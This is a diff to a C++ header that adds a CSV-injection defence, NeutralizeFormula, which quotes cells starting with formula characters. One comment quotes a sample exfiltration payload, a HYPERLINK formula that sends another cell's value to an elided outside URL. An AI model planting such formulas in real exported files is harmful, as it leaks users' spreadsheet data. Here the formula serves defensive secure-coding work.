@@ -17,8 +17,16 @@ namespace d06 {
 
 inline constexpr absl::string_view kUtf8Bom = "\xEF\xBB\xBF";
 
-// One CSV record: each field quoted (quotes inside doubled), CRLF at the end.
+// One CSV record: each field quoted (quotes inside doubled) after NeutralizeFormula, CRLF
+// at the end.
 std::string CsvRow(const std::vector<std::string>& fields);
+
+// `field` as a cell a spreadsheet shows as text, never runs (CSV injection, OWASP): one
+// that starts with '=', '+', '-', '@', a tab or a carriage return gets a leading "'",
+// unless it is a plain decimal number ("-12.5"). Excel and LibreOffice hide that quote
+// and show the rest as typed. Titles, unit names, categories, labels and KPI texts come
+// from users: `=HYPERLINK("http://…?d="&B3,"Bấm để xem")` becomes text.
+std::string NeutralizeFormula(absl::string_view field);
 
 // "Chưa triển khai", "Đang triển khai", "Chờ xác nhận", "Hoàn thành", "Từ chối",
 // "Đã thu hồi".
